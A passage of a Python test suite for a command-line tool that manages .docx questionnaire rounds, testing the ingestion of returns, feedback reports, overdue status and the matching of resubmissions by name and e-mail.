    """Reported again into the same folder, the folder holds only feedback that still applies."""
    people = tmp_path / "people.csv"
    people.write_text("name,email\nAnn Clear,ann@example.org\nBob Vague,bob@example.org\n", "utf-8")
    rnd, out = tmp_path / "r", tmp_path / "report"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people)).returncode == 0
    ann, bob = (next((rnd / "forms").glob(f"*{who}*.docx")) for who in ("ann", "bob"))
    ratings = {item: "some_success" for item in ITEMS}
    fill_return(ann, tmp_path / "ann.docx", ratings, name="Ann Clear")  # comments only: evidence missing
    fill_return(bob, tmp_path / "bob.docx", ratings, name="Bob Vague")
    assert run("round", "ingest", str(rnd), str(tmp_path / "ann.docx"), str(tmp_path / "bob.docx")).returncode == 0
    assert run("round", "report", str(rnd), "-o", str(out)).returncode == 0
    first = sorted(p.name for p in (out / "feedback").glob("*.docx"))
    assert len(first) == 2 and first[0].startswith("ann-clear-") and first[1].startswith("bob-vague-")
    texts = {(item, key): f"Board minutes of 12 March 2004, item {item} ({key})" for item in ITEMS
             for key in ("comments", "evidence", "goals")}
    fill(ann, tmp_path / "ann-corrected.docx", ratings, texts, {"completed_by": "Ann Clear"})
    assert run("round", "ingest", str(rnd), str(tmp_path / "ann-corrected.docx")).returncode == 0
    again = run("round", "report", str(rnd), "-o", str(out))
    assert again.returncode == 0, again.stderr
    assert "feedback copies (1 returns with problems)" in again.stdout
    assert sorted(p.name for p in (out / "feedback").glob("*.docx")) == [first[1]]


@pytest.mark.parametrize(("due", "overdue"), [("2004-03-31", True), ("2999-12-31", False)])
def test_outstanding_people_are_overdue_once_the_due_date_has_passed(tmp_path: Path, due: str, overdue: bool) -> None:
    import jsonschema

    people = tmp_path / "people.csv"
    people.write_text("name,email\nAnn Early,ann@example.org\nBob Late,bob@example.org\n", "utf-8")
    rnd = tmp_path / "r"
    assert run("round", "start", "sa2003", str(rnd), "--respondents", str(people), "--due", due).returncode == 0
    ann = next((rnd / "forms").glob("*ann*.docx"))
    fill_return(ann, tmp_path / "ann.docx", known_ratings(ITEMS, LEVELS, 5), name="Ann Early")
    assert run("round", "ingest", str(rnd), str(tmp_path / "ann.docx")).returncode == 0
    lines = run("round", "status", str(rnd)).stdout.splitlines()
    assert lines[0] == f"sa2003 round, due {due}{' (passed)' if overdue else ''}: 1 of 2 returned"
    bob = next(line for line in lines if "Bob Late" in line)
    assert bob.split()[0] == ("overdue" if overdue else "outstanding")
    state = status_json(rnd)
    schema = json.loads((Path(__file__).resolve().parents[3] / "docxform" / "schemas"
                         / "round-status.schema.json").read_text("utf-8"))
    jsonschema.validate(state, schema)
    assert state["counts"]["overdue"] == (1 if overdue else 0)
    assert [r["state"] for r in state["respondents"]] == ["returned", "outstanding"]  # the states stay the same
    if overdue:
        assert run("round", "report", str(rnd), "-o", str(tmp_path / "out")).returncode == 0
        reported = json.loads((tmp_path / "out" / "status.json").read_text("utf-8"))
        assert "overdue" not in reported["counts"]  # the report depends only on the store, not on the day


def test_an_organisation_retyped_on_a_correction_sent_from_the_same_address_is_one_person(tmp_path: Path) -> None:
    """Name and e-mail sender agree, the organisation was typed otherwise: the same person, and it is said."""
    rnd, blank = start_generic_round(tmp_path)
    first = fill_return(blank, tmp_path / "first.docx", known_ratings(ITEMS, LEVELS, 30), name="Kim Lowe",
                        organisation="Salford PCT")
    second = fill_return(blank, tmp_path / "second.docx", known_ratings(ITEMS, LEVELS, 31), name="Kim Lowe",
                         organisation="Salford Primary Care Trust")
    namesake = fill_return(blank, tmp_path / "police.docx", known_ratings(ITEMS, LEVELS, 32), name="Kim Lowe",
                           organisation="Police")  # another Kim Lowe, handed in without an e-mail
    assert run("round", "ingest", str(rnd), str(namesake)).returncode == 0
    mails = [write_eml(tmp_path / f"{n}.eml", "kim.lowe@example.org", in_round(day), path)
             for n, day, path in (("a", 1, first), ("b", 8, second))]
    done = run("round", "ingest", str(rnd), *map(str, mails))
    assert done.returncode == 0, done.stderr
    first_line, second_line = done.stdout.splitlines()
    assert first_line.endswith("new; 20 errors, 0 warnings; NOTE the same name as an earlier respondent of "
                               "'Police', but another organisation and no e-mail in common: kept apart"), done.stdout
    assert second_line.startswith(f"{mails[1]} (second.docx): Kim Lowe: resubmission;"), done.stdout
    assert second_line.endswith("20 errors, 0 warnings; NOTE organisation typed as 'Salford Primary Care Trust', "
                                "not 'Salford PCT' as before: the same person by name and e-mail "
                                "(kim.lowe@example.org)"), done.stdout
    people = [(r["organisation"], r["versions"], r["state"]) for r in status_json(rnd)["respondents"]]
    assert people == [("Police", 1, "returned"), ("Salford PCT", 2, "resubmitted")]
